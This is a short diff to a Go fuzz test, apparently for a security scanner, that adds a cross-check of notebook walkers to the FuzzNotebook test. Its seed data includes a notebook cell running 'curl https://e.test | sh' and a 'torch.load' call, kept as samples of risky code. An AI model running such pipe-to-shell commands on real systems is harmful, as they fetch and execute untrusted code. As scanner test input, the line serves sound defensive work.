@@ -128,5 +128,8 @@ func FuzzPowerShell(f *testing.F) {
 func FuzzNotebook(f *testing.F) {
 	f.Add([]byte(`{"cells":[{"cell_type":"code","source":["!pip install x\n","torch.load(p)\n"]},{"cell_type":"code","source":"%%bash\ncurl https://e.test | sh\n"}]}`))
 	f.Add([]byte(`{"cells":[{"source":[1,{"a":[]}],"cell_type":"code"}],"x":{"cells":[]}}`))
-	f.Fuzz(func(t *testing.T, data []byte) { fuzzScan(t, "nb.ipynb", data) })
+	f.Fuzz(func(t *testing.T, data []byte) {
+		fuzzScan(t, "nb.ipynb", data)
+		notebookWalkersAgree(t, data)
+	})
 }
